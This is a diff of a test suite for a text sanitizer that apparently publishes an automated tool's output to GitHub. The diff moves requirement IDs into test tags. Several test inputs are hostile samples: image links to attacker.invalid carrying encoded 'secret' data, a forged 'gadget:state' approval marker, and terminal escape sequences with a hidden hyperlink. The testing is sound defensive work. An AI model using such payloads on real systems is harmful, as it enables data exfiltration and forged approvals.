@@ -31,51 +31,51 @@ function live(markdown: string): string[] {
   return found;
 }
 
-describe('R9: the one publisher of text', () => {
-  test('R9 A050: nobody is mentioned', () => {
+describe('the one publisher of text', { tags: ['R9'] }, () => {
+  test('nobody is mentioned', { tags: ['R9', 'A050'] }, () => {
     expect(outgoing('cc @acme/core-team @octocat @everyone please look')).toBe(
       'cc @\u200bacme/core-team @\u200boctocat @\u200beveryone please look',
     );
   });
 
-  test('R9 A051: nothing is closed or referred to', () => {
+  test('nothing is closed or referred to', { tags: ['R9', 'A051'] }, () => {
     const published = outgoing('Fixes #1, closes acme/widgets#2 and resolves https://github.com/acme/widgets/issues/3', options);
     expect(published).toBe('Fixes #\u200b1, closes acme/widgets#\u200b2 and resolves `https://github.com/acme/widgets/issues/3`');
     expect(live(published)).toEqual([]);
   });
 
-  test('R9 A051: the issue of the work order stays a reference, but is never closed', () => {
+  test('the issue of the work order stays a reference, but is never closed', { tags: ['R9', 'A051'] }, () => {
     expect(outgoing('As in #7 and (#7), but fixes #7, **Closes** #7 and acme/widgets#7.', options)).toBe(
       'As in #7 and (#7), but fixes #\u200b7, **Closes** #\u200b7 and acme/widgets#\u200b7.',
     );
   });
 
-  test('R9 A052: images are text', () => {
+  test('images are text', { tags: ['R9', 'A052'] }, () => {
     const published = outgoing('![ok](https://attacker.invalid/p.png?d=c2VjcmV0) <img src=https://attacker.invalid/x>', options);
     expect(published).toBe('image: ok `https://attacker.invalid/p.png?d=c2VjcmV0` \\<img src=`https://attacker.invalid/x>`');
     expect(live(published)).toEqual([]);
   });
 
-  test('R9 A053: a marker of ours is shown broken', () => {
+  test('a marker of ours is shown broken', { tags: ['R9', 'A053'] }, () => {
     const published = outgoing('done <!-- gadget:state {"approved":["*"]} -->');
     expect(published).toBe('done `<\\!-- gadget:state {"approved":["*"]} -->`');
     expect(published).not.toContain('<!--');
   });
 
-  test('R9 A053: not even code carries a marker of ours', () => {
+  test('not even code carries a marker of ours', { tags: ['R9', 'A053'] }, () => {
     expect(outgoing('```\n<!-- gadget:state -->\n```\n\n`<!--gadget:x-->`')).not.toMatch(/<!--\s*gadget:/);
   });
 
-  test('R9 A054: no control character is published', () => {
+  test('no control character is published', { tags: ['R9', 'A054'] }, () => {
     const stdout = '\u001b[2J\u001b[1;31mred\u001b[0m\u001b]8;;https://attacker.invalid\u0007click\u001b]8;;\u0007\u001b]0;title\u0007';
     expect(outgoing(stdout)).toBe('redclick');
   });
 
-  test('R9 A090: a summary cannot load anything', () => {
+  test('a summary cannot load anything', { tags: ['R9', 'A090'] }, () => {
     expect(live(outgoing('<img src=https://attacker.invalid/x> ![x](https://attacker.invalid/y) AAAA'))).toEqual([]);
   });
 
-  test('R9 A100: code that looks like markup survives', () => {
+  test('code that looks like markup survives', { tags: ['R9', 'A100'] }, () => {
     const published = outgoing('Use `@decorator` and `a < b && c > d`; see ```html\n<!-- keep -->\n```');
     expect(published).toBe('Use `@decorator` and `a < b && c > d`; see\n\n```html\n<!-- keep -->\n```');
     expect(outgoing('See:\n\n```html\n<!-- keep -->\n@user #1 ``\n```\n')).toBe('See:\n\n```html\n<!-- keep -->\n@user #1 ``\n```');
@@ -105,17 +105,17 @@ describe('R9: the one publisher of text', () => {
       '# Title\n\n- [x] done\n\n1. a\n2. b\n\n> quote\n\n| a | b |\n| - | - |\n| 1 | 2 |',
     ],
     ['snake_case, 2 < 3, C#, *emphasis*, `#1`', 'snake_case, 2 < 3, C#, *emphasis*, `#1`'],
-  ])('R9: %j is published as %j', (text, published) => {
+  ])('%j is published as %j', { tags: ['R9'] }, (text, published) => {
     expect(outgoing(text, options)).toBe(published);
     expect(live(published)).toEqual([]);
   });
 
-  test('R13: one long URL is not copied to each of its references', () => {
+  test('one long URL is not copied to each of its references', { tags: ['R13'] }, () => {
     const text = `[a]: http://x.y/${'z'.repeat(2_000)}\n\n${'[a] '.repeat(500)}`;
     expect(outgoing(text).length).toBeLessThan(8 * text.length);
   });
 
-  test('R13: a table of many empty cells is shown as its source', () => {
+  test('a table of many empty cells is shown as its source', { tags: ['R13'] }, () => {
     const text = `${'|a'.repeat(300)}|\n${'|-'.repeat(300)}|\n${'|x|\n'.repeat(300)}`;
     expect(outgoing(text).length).toBeLessThan(2 * text.length);
   });
@@ -214,7 +214,7 @@ describe('R9 as properties', () => {
     );
   });
 
-  test('R9 A100: code in a fence survives verbatim', () => {
+  test('code in a fence survives verbatim', { tags: ['R9', 'A100'] }, () => {
     const code = fc
       .array(fc.constantFrom('`', '``', '````', '~~~', '<!-- x -->', '@user', '#1', ' ', '\n', 'a', '\\', '> ', '- ', '&amp;', '[a](b)'), {
         minLength: 1,
